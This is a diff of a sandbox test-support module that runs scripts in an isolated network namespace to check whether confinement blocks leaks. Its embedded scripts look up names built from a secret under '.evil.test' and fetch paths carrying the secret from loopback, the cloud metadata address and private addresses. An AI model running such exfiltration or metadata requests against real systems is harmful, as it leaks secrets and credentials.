@@ -1,7 +1,8 @@
 """A network for one test alone: corral runs in it with the usual resolver, which asks the test's server.
 
-`python -m support.net_alone CASE BACKEND` runs inside, in namespaces of its own for network and mounts, and
-prints what happened; `lookups_alone` and `metadata_alone` start it. The host's network is out of its reach.
+`python -m support.net_alone CASE BACKEND GRANT...` runs inside, in namespaces of its own for network and
+mounts, and prints what happened; `lookups_alone` and `moved_alone` start it. The host's network is not there:
+addresses of any kind can be its own: a public one among them, so that no grant of an address is needed.
 """
 
 from __future__ import annotations
@@ -15,12 +16,24 @@ import tempfile
 from pathlib import Path
 from typing import NamedTuple
 
-from support.net_leaks import PREAMBLE, SECRET
+from support.net_leaks import PREAMBLE
 from support.net_runs import ALLOWED, probe_of, why_not
 
 _TESTS = Path(__file__).resolve().parents[1]
-_METADATA = "169.254.169.254"
-_SECONDS = 100
+_SECONDS = 110
+#: The address of whoever is permitted: in here nobody else has it.
+_PUBLIC = "9.9.9.123"
+#: Where a name may be moved: loopback, metadata services, private networks, and translated forms of them.
+MOVED = {
+    f"moved-{number}.example.test": address
+    for number, address in enumerate(
+        (
+            *("127.0.0.1", "127.77.0.1", "169.254.169.254", "10.0.0.5", "172.16.0.9", "192.168.7.7"),
+            *("100.64.0.9", "198.18.0.77", "192.0.0.192", "::1", "fd00:ec2::254", "64:ff9b::a00:5"),
+            *("2002:a00:5::1", "::ffff:10.0.0.5"),
+        )
+    )
+}
 
 _LOOK_UP = f"""
 import subprocess
@@ -31,12 +44,16 @@ for name in (SECRET + ".evil.test", SECRET + ".{ALLOWED}.evil.test"):
     attempt(lambda: dial(name, 443))
     attempt(lambda: subprocess.run(["getent", "ahosts", name], capture_output=True, timeout=20))
 """
-_FETCH = """
-def send():
-    with dial("metadata.example.test", 80) as stream:
-        get(stream, "metadata.example.test", "/" + SECRET)
+#: Each by its name, and straight.
+_FETCH = f"""
+def send(host, target):
+    with dial(host, 80) as stream:
+        get(stream, "[%s]" % host if ":" in host else host, target)
         return listen(stream)
-attempt(send)
+for name, address in {MOVED!r}.items():
+    attempt(lambda: send(name, "/%s/%s" % (SECRET, name)))
+    attempt(lambda: send(address, "/%s/%s" % (SECRET, address)))
+attempt(lambda: send("localhost", "/%s/localhost" % SECRET))
 """
 
 
@@ -46,7 +63,7 @@ class Alone(NamedTuple):
     control: list[str]
     confined: list[str]
     output: str
-    violations: list[str]  # hints
+    hints: list[str]
 
 
 def why_not_alone(name: str) -> str:
@@ -59,18 +76,17 @@ def why_not_alone(name: str) -> str:
 
 def lookups_alone(backend: str) -> Alone:
     """Names with the secret are looked up; what is returned are the names that the server was asked for."""
-    return _start("lookups", backend)
+    return _start("lookups", backend, f"network:http:{ALLOWED}")
 
 
-def metadata_alone(backend: str) -> Alone:
-    """A permitted name leads to 169.254.169.254; what is returned are the requests that its server got."""
-    return _start("metadata", backend)
+def moved_alone(backend: str, *grants: str) -> Alone:
+    """Permitted names lead to where they must not; what is returned are the requests that arrived there."""
+    return _start("moved", backend, *grants)
 
 
-def _start(case: str, backend: str) -> Alone:
-    command = [sys.executable, "-m", "support.net_alone", case, backend]
+def _start(*arguments: str) -> Alone:
     done = subprocess.run(
-        ["unshare", "--net", "--mount", "--", *command],
+        ["unshare", "--net", "--mount", "--", sys.executable, "-m", "support.net_alone", *arguments],
         env={**os.environ, "PYTHONPATH": str(_TESTS)},
         capture_output=True,
         text=True,
@@ -83,92 +99,71 @@ def _start(case: str, backend: str) -> Alone:
 
 
 def _prepare(folder: Path) -> None:
-    """Loopback, the address of metadata services, a resolver's file: all of it is gone with the process."""
+    """Loopback with all those addresses, and a resolver's file: all of it is gone with the process."""
     resolver, names = folder / "resolv.conf", folder / "nsswitch.conf"
     resolver.write_text("nameserver 127.0.0.1\noptions timeout:2 attempts:1\n")
     names.write_text("hosts: files dns\n")
-    for command in (
-        ("busybox", "ip", "link", "set", "lo", "up"),
-        ("busybox", "ip", "address", "add", f"{_METADATA}/32", "dev", "lo"),
-        ("mount", "--bind", str(resolver), os.path.realpath("/etc/resolv.conf")),
-        ("mount", "--bind", str(names), os.path.realpath("/etc/nsswitch.conf")),
-    ):
+    commands = [
+        ["busybox", "ip", "link", "set", "lo", "up"],
+        ["mount", "--bind", str(resolver), os.path.realpath("/etc/resolv.conf")],
+        ["mount", "--bind", str(names), os.path.realpath("/etc/nsswitch.conf")],
+    ]
+    for address in (_PUBLIC, *MOVED.values()):
+        if not address.startswith(("127.", "::")):
+            size = 128 if ":" in address else 32
+            commands.append(["busybox", "ip", "address", "add", f"{address}/{size}", "dev", "lo"])
+    for command in commands:
         subprocess.run(command, check=True)
 
 
-def _main(case: str, backend: str) -> None:
+def _main(case: str, backend: str, *grants: str) -> None:
     """Unconfined, then confined, with the same servers."""
+    from support.net_dns import NameServer
+    from support.net_web import WebServer
+
     with tempfile.TemporaryDirectory(prefix="corral-alone-") as folder:
         _prepare(Path(folder))
         work = Path(folder) / "work"
         work.mkdir()
         os.environ["HOME"] = os.environ["XDG_STATE_HOME"] = folder
-        tried = _try_lookups if case == "lookups" else _try_metadata
-        print(json.dumps(tried(backend, work)._asdict()))
+        text = _LOOK_UP if case == "lookups" else _FETCH
+        addresses = {ALLOWED: _PUBLIC, **MOVED}
+        with NameServer(port=53, addresses=addresses) as names, WebServer(address="::", port=80) as web:
+
+            def received() -> list[str]:
+                names.settle()
+                web.settle()
+                got = names.names if case == "lookups" else [request.target for request in web.requests]
+                names.forget()
+                web.forget()
+                return got
+
+            said = _run_unconfined(text)
+            control = received()
+            output, hints = _run_confined(backend, work, text, grants)
+            print(json.dumps(Alone(control, received(), output if control else said, hints)._asdict()))
 
 
-def _try_lookups(backend: str, work: Path) -> Alone:
-    from support.net_dns import NameServer
-    from support.net_web import WebServer
-
-    with NameServer(port=53) as names, WebServer(port=80):
-        control = _unconfined(_LOOK_UP)
-        asked = names.names
-        names.forget()
-        output, violations = _confined(backend, work, _LOOK_UP)
-        return Alone(asked, names.names, control if not asked else output, violations)
-
-
-def _try_metadata(backend: str, work: Path) -> Alone:
-    """The permitted name `api` leads to loopback, which is granted; `metadata` to where it must not."""
-    from support.net_dns import NameServer, read_question
-    from support.net_web import WebServer
-
-    class Rebinding(NameServer):
-        def answer(self, packet: bytes) -> bytes | None:
-            is_evil = read_question(packet)[0].startswith("metadata.")
-            self.answers_with = _METADATA if is_evil else "127.0.0.1"
-            return super().answer(packet)
-
-    with Rebinding(port=53), WebServer(port=80), WebServer(address=_METADATA, port=80) as metadata:
-        control = _unconfined(_FETCH)
-        got = [request.target for request in metadata.requests]
-        metadata.forget()
-        output, violations = _confined(backend, work, _FETCH)
-        metadata.settle()
-        confined = [repr(data) for data in metadata.received]
-        return Alone(got, confined, control if not got else output, violations)
-
-
-def _unconfined(text: str) -> str:
+def _run_unconfined(text: str) -> str:
     from support.confinement import PYTHON
 
-    done = subprocess.run(
-        (PYTHON, "-I", "-S", "-c", PREAMBLE + text), capture_output=True, text=True, check=False
-    )
+    script = (PYTHON, "-I", "-S", "-c", PREAMBLE + text)
+    done = subprocess.run(script, capture_output=True, text=True, timeout=_SECONDS, check=False)
     return done.stdout + done.stderr
 
 
-def _confined(backend: str, work: Path, text: str) -> tuple[str, list[str]]:
+def _run_confined(backend: str, work: Path, text: str, grants: tuple[str, ...]) -> tuple[str, list[str]]:
     from corral.model.feature import Feature
     from corral.policy.compose import build_policy
     from corral.sandbox import Sandbox
     from support.confinement import INTERPRETER, PYTHON
 
-    grants = (
-        f"network:http:{ALLOWED}",
-        "network:http:127.0.0.1",
-        "network:http:metadata.example.test",
-        f"network:https:{ALLOWED}",
-    )
     waived = frozenset(Feature) - probe_of(backend).enforces if backend == "landlock" else ()
-    sandbox = Sandbox(
-        build_policy("moderate", (*INTERPRETER, *grants)), backend=backend, workspace=work, waive=waived
-    )
+    policy = build_policy("moderate", (*INTERPRETER, *grants))
+    sandbox = Sandbox(policy, backend=backend, workspace=work, waive=waived)
     result = sandbox.run((PYTHON, "-I", "-S", "-c", PREAMBLE + text))
     return result.stdout + result.stderr, [found.hint for found in result.violations]
 
 
 if __name__ == "__main__":
-    assert SECRET in PREAMBLE
     _main(*sys.argv[1:])
